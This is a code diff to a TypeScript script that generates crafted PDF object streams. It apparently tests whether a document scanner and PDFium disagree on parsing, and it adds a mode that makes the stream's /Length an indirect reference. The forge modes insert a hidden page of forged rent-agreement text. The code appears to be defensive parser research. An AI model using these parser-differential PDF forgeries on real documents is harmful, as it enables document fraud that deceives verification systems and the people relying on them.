@@ -8,7 +8,7 @@
 // modes: honest (direct /N, no forge), indirect (indirect /N, no forge), forge (direct /N + T), attack (indirect + T),
 //        first (indirect /First instead of /N, + T)
 //        zero-pair (S begins with a pair naming object 0, T); dot, dot-gen, dot-only (below), zero-dot (zero-pair's trigger, dot's page)
-//   npx tsx scripts/attack-s19/catalog-objstm.ts <honest|indirect|forge|attack|first|zero-pair|dot|dot-gen|dot-only|zero-dot>   REAL=0 for samples/valid
+//   npx tsx scripts/attack-s19/catalog-objstm.ts <honest|indirect|forge|attack|first|zero-pair|dot|dot-gen|dot-only|zero-dot|len>   REAL=0 for samples/valid
 import { NumberAllocator, serialize } from "../../src/augment/writer.js";
 import { parsePdf } from "../../src/input/pdf/index.js";
 import { rawGet } from "../../src/input/pdf/objects.js";
@@ -17,7 +17,7 @@ import { resolveLimits } from "../../src/limits.js";
 import { save, work } from "../attack36/lib.js";
 import { judge, latin, page1 } from "../attack-s16/lib.js";
 
-const MODES = ["honest", "indirect", "forge", "attack", "first", "zero-pair", "dot", "dot-gen", "dot-only", "zero-dot"];
+const MODES = ["honest", "indirect", "forge", "attack", "first", "zero-pair", "dot", "dot-gen", "dot-only", "zero-dot", "len"];
 const mode = process.argv[2] ?? "attack";
 if (!MODES.includes(mode)) throw new Error(`usage: <${MODES.join("|")}>`);
 const indirectN = mode === "indirect" || mode === "attack" || mode === "dot" || mode === "dot-gen";
@@ -26,7 +26,9 @@ const indirectN = mode === "indirect" || mode === "attack" || mode === "dot" || 
 // the same bytes with a direct /N (no trigger): the scan's verdict on them.
 const dot = mode.startsWith("dot") || mode === "zero-dot";
 const indirectFirst = mode === "first";
-const forge = mode === "forge" || mode === "attack" || mode === "first" || mode === "zero-pair";
+const forge = mode === "forge" || mode === "attack" || mode === "first" || mode === "zero-pair" || mode === "len";
+// len: S's /Length a reference to a top-level integer (/N, /First direct), T: does PDFium read S so?
+const indirectLen = mode === "len";
 // zero-pair: S (direct /N 3) begins with a header pair naming object 0 (`0 0`, a `null`): PDFium's CPDF_ObjectStream::Init
 // skips a pair whose number is 0, so its indices shift by one and the catalog's entry (S, 1) finds another number.
 const zeroPair = mode === "zero-pair" || mode === "zero-dot";
@@ -65,9 +67,10 @@ const hdrS = `${zeroPair ? "0 0 " : ""}${rootRef.num} ${z.length} ${DSS} ${z.len
 const dataS = hdrS + z + o1 + o2;
 if (indirectN) obj(NUM, "2");
 if (indirectFirst) obj(NUM, String(hdrS.length));
+if (indirectLen) obj(NUM, String(dataS.length));
 obj(
   S,
-  `<< /Type /ObjStm /N ${indirectN ? `${NUM} 0 R` : zeroPair ? "3" : "2"} /First ${indirectFirst ? `${NUM} 0 R` : hdrS.length} /Length ${dataS.length} >>\nstream\n${dataS}\nendstream`,
+  `<< /Type /ObjStm /N ${indirectN ? `${NUM} 0 R` : zeroPair ? "3" : "2"} /First ${indirectFirst ? `${NUM} 0 R` : hdrS.length} /Length ${indirectLen ? `${NUM} 0 R` : dataS.length} >>\nstream\n${dataS}\nendstream`,
 );
 if (forge || dot) {
   const content = "1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET";
